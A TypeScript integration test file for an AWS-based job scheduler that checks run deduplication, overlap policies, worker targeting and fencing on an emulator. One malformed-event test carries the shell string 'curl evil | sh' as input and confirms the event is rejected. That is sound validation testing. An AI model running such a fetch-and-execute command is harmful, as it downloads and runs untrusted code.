/**
 * Invariants 1-3 on a real AWS emulator: the dispatcher Lambda handler, the DynamoDB run ledger and
 * lock table, worker leases and SQS worker queues, with no fakes in between.
 */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { type AttributeValue, ScanCommand } from '@aws-sdk/client-dynamodb';
import { GetQueueAttributesCommand, ListQueuesCommand } from '@aws-sdk/client-sqs';
import { type ControlPlane, controlPlane } from '../../core/adapters/control-plane';
import { RunNotInStateError, StaleFenceError } from '../../core/errors';
import type { JobSpecInput, Run } from '../../core/model';
import { makeDispatcherHandler } from '../../functions/dispatcher/handler';
import { useEmulator } from '../harness';
import { drainInbox, type FleetMember, joinFleet } from '../harness/fleet';

const aws = useEmulator();
let shared: ControlPlane | undefined;
let counter = 0;

/** The file's control plane, built on first use inside a test (the emulator starts in the harness's hook). */
async function controlPlaneOnEmulator(): Promise<ControlPlane> {
  await aws.provisioned();
  shared ??= controlPlane({ clients: aws.clients, prefix: aws.prefix, workerCacheMs: 0 });
  return shared;
}

/** A job with a unique id (one emulator serves the whole file) and no schedule: fires come from the test. */
async function defineJob(spec: Partial<JobSpecInput> = {}): Promise<string> {
  const plane = await controlPlaneOnEmulator();
  counter += 1;
  const jobId = `job-${counter}`;
  await plane.jobService.define({ jobId, handler: 'reports.daily', ...spec });
  return jobId;
}

const at = (minute: number) => new Date(Date.UTC(2026, 0, 30, 10, minute)).toISOString().replace('.000', '');

async function claimFrom(member: FleetMember): Promise<Run> {
  const plane = await controlPlaneOnEmulator();
  const [envelope] = await drainInbox(member.inbox);
  assert.ok(envelope, `${member.worker.workerId} received the run`);
  return plane.execution.claim(envelope, member.worker.workerId);
}

describe('invariant 1: one run per fire', () => {
  test('50 concurrent invocations of one fire through 5 dispatcher instances: one run record, one start', async () => {
    const plane = await controlPlaneOnEmulator();
    const worker = await joinFleet(plane, aws.clients, {
      workerId: 'solo',
      pool: 'p1',
      handlers: ['reports.daily'],
    });
    const jobId = await defineJob({ target: { pool: 'p1' } });
    // The dispatchers' clock stands still: a repeated fire that finds the run unclaimed 10 s after
    // its dispatch resends it (the lost-send repair, tested on its own), and on a loaded machine the
    // 50 invocations can spread over more than 10 s (19 deliveries once in CI at load ~30). Frozen,
    // every repeat is a plain duplicate, whatever the machine's speed.
    const frozenAt = Date.now();
    const handlers = Array.from({ length: 5 }, () =>
      makeDispatcherHandler({
        dispatcher: controlPlane({
          clients: aws.clients,
          prefix: aws.prefix,
          workerCacheMs: 0,
          clock: { now: () => frozenAt },
        }).dispatcher,
        log: plane.log,
      }),
    );
    const results = await Promise.all(
      Array.from({ length: 50 }, (_, i) => handlers[i % 5]!({ jobId, scheduledTime: at(0) })),
    );
    assert.equal(
      results.filter((r) => r.status === 'dispatched').length,
      1,
      JSON.stringify(results.filter((r) => r.status !== 'duplicate')),
    );
    assert.equal(results.filter((r) => r.status === 'duplicate').length, 49);
    assert.equal((await plane.runs.listByJob(jobId)).length, 1);

    const envelopes = await drainInbox(worker.inbox);
    assert.equal(envelopes.length, 1, 'one delivery');
    // Even a duplicated delivery starts the run once: three agents racing on the same envelope.
    const claims = await Promise.allSettled(
      [0, 1, 2].map(() => plane.execution.claim(envelopes[0]!, 'solo')),
    );
    assert.equal(claims.filter((c) => c.status === 'fulfilled').length, 1);
  });

  test('an unknown job and a malformed event are answered with specific errors; only the fire leaves a record', async () => {
    const plane = await controlPlaneOnEmulator();
    const dispatch = makeDispatcherHandler({ dispatcher: plane.dispatcher, log: plane.log });
    const unknown = await dispatch({ jobId: 'no-such-job', scheduledTime: at(1) });
    assert.equal(unknown.status, 'rejected');
    const [record] = await plane.runs.listByJob('no-such-job');
    assert.equal(record?.status, 'SKIPPED');
    assert.equal(record?.reason, 'job_not_found');

    const malformed = await dispatch({ jobId: 'x', scheduledTime: 'soon', command: 'curl evil | sh' });
    assert.equal(malformed.status, 'invalid');
    assert.equal(malformed.status === 'invalid' && malformed.error.code, 'validation_failed');
    assert.match(JSON.stringify(malformed), /event\.scheduledTime/);
    assert.deepEqual(await plane.runs.listByJob('x'), []);
  });
});

describe('a fire for a deleted job', () => {
  test('leaves one SKIPPED(job_not_found) run record with the reason, and nothing else in any table or queue', async () => {
    const plane = await controlPlaneOnEmulator();
    await joinFleet(plane, aws.clients, { workerId: 'del-1', pool: 'default', handlers: ['reports.daily'] });
    const jobId = await defineJob({
      target: { pool: 'default' },
      schedule: { expression: 'rate(5 minutes)' },
    });
    await plane.jobService.delete(jobId);
    const before = await everything();

    // EventBridge Scheduler may still deliver a fire of a schedule deleted a moment ago.
    const outcome = await plane.dispatcher.fire({ jobId, scheduledTime: at(30) });
    assert.equal(outcome.kind, 'rejected');
    assert.equal(outcome.kind === 'rejected' && outcome.error.code, 'not_found');

    const after = await everything();
    const runId = `${jobId}@${at(30)}`;
    const added = after.items.filter((item) => !before.items.includes(item));
    assert.equal(added.length, 1, `one item written: ${added.join('\n')}`);
    assert.deepEqual(
      before.items.filter((item) => !after.items.includes(item)),
      [],
      'nothing changed or removed',
    );
    assert.match(added[0]!, new RegExp(`^${(await aws.provisioned()).tables.runs} `));
    const run = await plane.runs.get(runId);
    assert.equal(run?.status, 'SKIPPED');
    assert.equal(run?.reason, 'job_not_found');
    assert.equal(run?.error?.code, 'not_found');
    assert.match(run?.error?.message ?? '', new RegExp(jobId));
    assert.deepEqual(after.queues, before.queues, 'no message sent to any queue');
  });
});

/** Every item of every table (as JSON, prefixed by its table) and the message count of every queue. */
async function everything(): Promise<{ items: string[]; queues: Record<string, string> }> {
  const stack = await aws.provisioned();
  const items: string[] = [];
  for (const table of Object.values(stack.tables)) {
    let ExclusiveStartKey: Record<string, AttributeValue> | undefined;
    do {
      const page = await aws.clients.dynamodb.send(
        new ScanCommand({ TableName: table, ...(ExclusiveStartKey ? { ExclusiveStartKey } : {}) }),
      );
      for (const item of page.Items ?? []) items.push(`${table} ${JSON.stringify(item)}`);
      ExclusiveStartKey = page.LastEvaluatedKey;
    } while (ExclusiveStartKey);
  }
  const queues: Record<string, string> = {};
  const listed = await aws.clients.sqs.send(new ListQueuesCommand({ QueueNamePrefix: aws.prefix }));
  for (const url of listed.QueueUrls ?? []) {
    const { Attributes } = await aws.clients.sqs.send(
      new GetQueueAttributesCommand({
        QueueUrl: url,
        AttributeNames: ['ApproximateNumberOfMessages', 'ApproximateNumberOfMessagesNotVisible'],
      }),
    );
    queues[url] =
      `${Attributes?.ApproximateNumberOfMessages}/${Attributes?.ApproximateNumberOfMessagesNotVisible}`;
  }
  return { items, queues };
}

describe('invariant 2: no overlap by default', () => {
  test('FORBID: a fire while the previous run is RUNNING is recorded SKIPPED(overlap)', async () => {
    const plane = await controlPlaneOnEmulator();
    const worker = await joinFleet(plane, aws.clients, {
      workerId: 'f1',
      pool: 'p2',
      handlers: ['reports.daily'],
    });
    const jobId = await defineJob({ target: { pool: 'p2' } });
    await plane.dispatcher.fire({ jobId, scheduledTime: at(0) });
    const running = await claimFrom(worker);
    assert.equal(running.status, 'RUNNING');
    const second = await plane.dispatcher.fire({ jobId, scheduledTime: at(1) });
    assert.equal(second.kind, 'skipped');
    const skipped = await plane.runs.get(`${jobId}@${at(1)}`);
    assert.equal(skipped?.status, 'SKIPPED');
    assert.equal(skipped?.reason, 'overlap');
    assert.match(skipped?.history.at(-1)?.note ?? '', new RegExp(running.runId));
    assert.deepEqual(await drainInbox(worker.inbox), [], 'nothing else was delivered');
  });

  test('FORBID: a run that finished but has not yet released its lock does not make the next fire an overlap', async () => {
    const plane = await controlPlaneOnEmulator();
    const worker = await joinFleet(plane, aws.clients, {
      workerId: 'f2',
      pool: 'p2b',
      handlers: ['reports.daily'],
    });
    const jobId = await defineJob({ target: { pool: 'p2b' } });
    await plane.dispatcher.fire({ jobId, scheduledTime: at(0) });
    const running = await claimFrom(worker);
    // The worker's final write landed; its lock release (the next request) has not yet.
    const finished = await plane.runs.transition(running.runId, {
      from: ['RUNNING'],
      fence: running.fence,
      to: 'SUCCEEDED',
      at: Date.now(),
    });
    assert.equal((await plane.locks.get(`job#${jobId}`))?.owner, running.runId, 'the lock outlived its run');
    const next = await plane.dispatcher.fire({ jobId, scheduledTime: at(1) });
    assert.equal(next.kind, 'dispatched', JSON.stringify(next));
    await plane.dispatcher.settle(finished); // the late release: owner changed, nothing released
    assert.equal((await plane.locks.get(`job#${jobId}`))?.owner, `${jobId}@${at(1)}`);
    assert.equal((await claimFrom(worker)).runId, `${jobId}@${at(1)}`);
  });

  test('QUEUE: the next fire waits and is dispatched when the running one finishes', async () => {
    const plane = await controlPlaneOnEmulator();
    const worker = await joinFleet(plane, aws.clients, {
      workerId: 'q1',
      pool: 'p3',
      handlers: ['reports.daily'],
    });
    const jobId = await defineJob({ target: { pool: 'p3' }, concurrency: { policy: 'QUEUE', maxQueued: 1 } });
    await plane.dispatcher.fire({ jobId, scheduledTime: at(0) });
    const first = await claimFrom(worker);
    assert.equal((await plane.dispatcher.fire({ jobId, scheduledTime: at(1) })).kind, 'queued');
    assert.equal((await plane.dispatcher.fire({ jobId, scheduledTime: at(2) })).kind, 'skipped', 'bounded');
    await plane.execution.complete(first, { status: 'SUCCEEDED', result: { rows: 3 } });
    const second = await claimFrom(worker);
    assert.equal(second.scheduledTime, at(1));
    assert.equal((await plane.locks.get(`job#${jobId}`))?.owner, second.runId);
  });

  test('REPLACE: the running run is cancelled and the new one dispatched; the old worker cannot complete', async () => {
    const plane = await controlPlaneOnEmulator();
    const worker = await joinFleet(plane, aws.clients, {
      workerId: 'r1',
      pool: 'p4',
      handlers: ['reports.daily'],
    });
    const jobId = await defineJob({ target: { pool: 'p4' }, concurrency: { policy: 'REPLACE' } });
    await plane.dispatcher.fire({ jobId, scheduledTime: at(0) });
    const old = await claimFrom(worker);
    assert.equal((await plane.dispatcher.fire({ jobId, scheduledTime: at(1) })).kind, 'dispatched');
    const cancelled = await plane.runs.get(old.runId);
    assert.equal(cancelled?.status, 'CANCELLED');
    assert.equal(cancelled?.cancelRequested, true);
    await assert.rejects(plane.execution.complete(old, { status: 'SUCCEEDED' }), RunNotInStateError);
    const replacement = await claimFrom(worker);
    assert.equal(replacement.scheduledTime, at(1));
  });
});

describe('targeting', () => {
  test('a job pinned to B is never delivered to A; with B gone it records NO_WORKER and A still gets nothing', async () => {
    const plane = await controlPlaneOnEmulator();
    const a = await joinFleet(plane, aws.clients, {
      workerId: 'pin-a',
      pool: 'p5',
      handlers: ['reports.daily'],
    });
    const b = await joinFleet(plane, aws.clients, {
      workerId: 'pin-b',
      pool: 'p5',
      handlers: ['reports.daily'],
    });
    const jobId = await defineJob({
      target: { pool: 'p5', workerIds: ['pin-b'] },
      concurrency: { policy: 'ALLOW' },
    });
    for (let minute = 0; minute < 10; minute += 1)
      await plane.dispatcher.fire({ jobId, scheduledTime: at(minute) });
    assert.equal((await drainInbox(b.inbox)).length, 10);
    await plane.workers.setStatus('pin-b', b.worker.leaseFence, 'GONE', Date.now());
    const outcome = await plane.dispatcher.fire({ jobId, scheduledTime: at(10) });
    assert.equal(outcome.kind, 'no_worker');
    const run = await plane.runs.get(`${jobId}@${at(10)}`);
    assert.equal(run?.status, 'NO_WORKER');
    assert.match(run?.reason ?? '', /pin-a \(not pinned\)/);
    assert.deepEqual(await drainInbox(a.inbox), [], 'A never got the pinned job');
  });
});

describe('invariant 3: fenced transitions', () => {
  test('after a run is recovered onto another worker, the first worker writes nothing: its fence is stale', async () => {
    const plane = await controlPlaneOnEmulator();
    const first = await joinFleet(plane, aws.clients, {
      workerId: 'fence-1',
      pool: 'p7',
      handlers: ['reports.daily'],
    });
    const second = await joinFleet(plane, aws.clients, {
      workerId: 'fence-2',
      pool: 'p7',
      handlers: ['reports.daily'],
    });
    const jobId = await defineJob({
      target: { pool: 'p7', workerIds: ['fence-1', 'fence-2'] },
      routing: 'FIRST',
    });
    await plane.dispatcher.fire({ jobId, scheduledTime: at(0) });
    const stale = await claimFrom(first);
    // The monitor finds fence-1's lease expired and recovers the run as a new attempt on fence-2.
    await plane.workers.setStatus('fence-1', first.worker.leaseFence, 'GONE', Date.now());
    const recovered = await plane.dispatcher.redispatch(stale, { newAttempt: true, note: 'worker lost' });
    assert.deepEqual([recovered.attempt, recovered.workerId], [2, 'fence-2']);
    assert.ok(recovered.fence > stale.fence);
    const owned = await claimFrom(second);

    await assert.rejects(
      plane.execution.complete(stale, { status: 'FAILED', error: { code: 'x', message: 'late' } }),
      StaleFenceError,
    );
    await plane.execution.complete(owned, { status: 'SUCCEEDED', result: 'from fence-2' });
    const final = await plane.runs.get(stale.runId);
    assert.equal(final?.status, 'SUCCEEDED');
    assert.equal(final?.workerId, 'fence-2');
    assert.equal(final?.result, 'from fence-2');
  });
});
